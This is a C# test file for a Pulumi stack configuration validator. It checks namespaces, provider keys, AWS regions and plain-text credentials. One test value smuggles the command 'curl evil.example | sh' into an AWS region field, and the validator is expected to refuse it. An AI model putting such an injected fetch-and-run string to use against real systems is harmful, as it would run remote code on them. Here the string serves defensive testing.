using MultiRegionInfra.Configuration;

namespace MultiRegionInfra.Tests.Settings;

/// <summary>The keys of a stack file outside the project's namespace: namespaces, provider keys,
/// credentials in plain text and AWS regions.</summary>
public class ProviderConfigurationTests
{
    private const string P = "multi-region-infra";

    private static IReadOnlyList<string> Check(params (string Key, string Value)[] values) => Check(Array.Empty<string>(), values);

    private static IReadOnlyList<string> Check(string[] secrets, params (string Key, string Value)[] values) =>
        ProviderConfiguration.Check(new ConfigSource(values.ToDictionary(v => v.Key, v => v.Value), secrets.ToHashSet()), P, "us-east");

    [Theory]
    [InlineData("multi-region-infr:azCount", "3",
        "multi-region-infr:azCount: is in the namespace 'multi-region-infr', which nothing in this program reads; allowed: the namespaces aws, aws-native, cloudflare, multi-region-infra, pulumi (did you mean 'multi-region-infra:azCount'?)")]
    [InlineData("aws-nativ:region", "us-east-1",
        "aws-nativ:region: is in the namespace 'aws-nativ', which nothing in this program reads; allowed: the namespaces aws, aws-native, cloudflare, multi-region-infra, pulumi (did you mean 'aws-native:region'?)")]
    [InlineData("datadog:apiKey", "x",
        "datadog:apiKey: is in the namespace 'datadog', which nothing in this program reads; allowed: the namespaces aws, aws-native, cloudflare, multi-region-infra, pulumi")]
    [InlineData("azCount", "3", "azCount: has no namespace; allowed: multi-region-infra:azCount or a provider's key such as aws:region")]
    [InlineData("aws:regoin", "us-east-1", "aws:regoin: is not a key of the aws provider; did you mean 'aws:region'?")]
    [InlineData("cloudflare:apitoken", "x", "cloudflare:apitoken: is not a key of the cloudflare provider; did you mean 'cloudflare:apiToken'?")]
    [InlineData("aws:region", "us-east-7", "aws:region: 'us-east-7' is not an AWS region; allowed: an AWS region (did you mean 'us-east-1'?)")]
    [InlineData("aws:region", "us-east-1; curl evil.example | sh", "aws:region: 'us-east-1; curl evil.example | sh' is not an AWS region; allowed: an AWS region such as us-east-1 or eu-west-1")]
    [InlineData("aws-native:region", "eu-wst-1", "aws-native:region: 'eu-wst-1' is not an AWS region; allowed: an AWS region (did you mean 'eu-west-1'?)")]
    public void A_key_nothing_reads_or_a_region_aws_lacks_is_refused(string key, string value, string message) =>
        Assert.Equal(new[] { message }, Check((key, value)));

    [Theory]
    [InlineData("cloudflare:apiToken")]
    [InlineData("cloudflare:apiKey")]
    [InlineData("aws:secretKey")]
    [InlineData("aws-native:token")]
    public void A_credential_in_plain_text_is_refused_with_the_command_to_use_and_without_its_value(string key)
    {
        var error = Assert.Single(Check((key, "plain-credential-value")));
        Assert.Equal($"{key}: is in plain text in Pulumi.us-east.yaml; allowed: a secret, set with: pulumi config set --secret {key} <value> --stack us-east", error);
        Assert.DoesNotContain("plain-credential-value", error);
        Assert.Empty(Check(new[] { key }, (key, "decrypted-by-the-cli")));
    }

    [Fact]
    public void The_keys_of_a_well_formed_stack_pass()
    {
        Assert.Empty(Check(("aws:region", "eu-west-1"), ("aws:profile", "prod"), ("aws-native:region", "us-east-1"), ("cloudflare:baseUrl", "https://api.cloudflare.com/client/v4"),
            ("pulumi:disable-default-providers", "[]"), ($"{P}:azCount", "3"), ($"{P}:anything", "is checked by the stack's own reader")));
    }

    [Theory]
    [InlineData("cn-north-1", "aws-cn", "amazonaws.com.cn")]
    [InlineData("us-gov-west-1", "aws-us-gov", "amazonaws.com")]
    [InlineData("eu-central-2", "aws", "amazonaws.com")]
    public void Every_region_has_its_partition(string region, string partition, string suffix)
    {
        Assert.True(AwsRegions.IsKnown(region));
        Assert.Equal(partition, AwsRegions.PartitionOf(region));
        Assert.Equal(suffix, AwsRegions.DnsSuffixOf(region));
    }
}
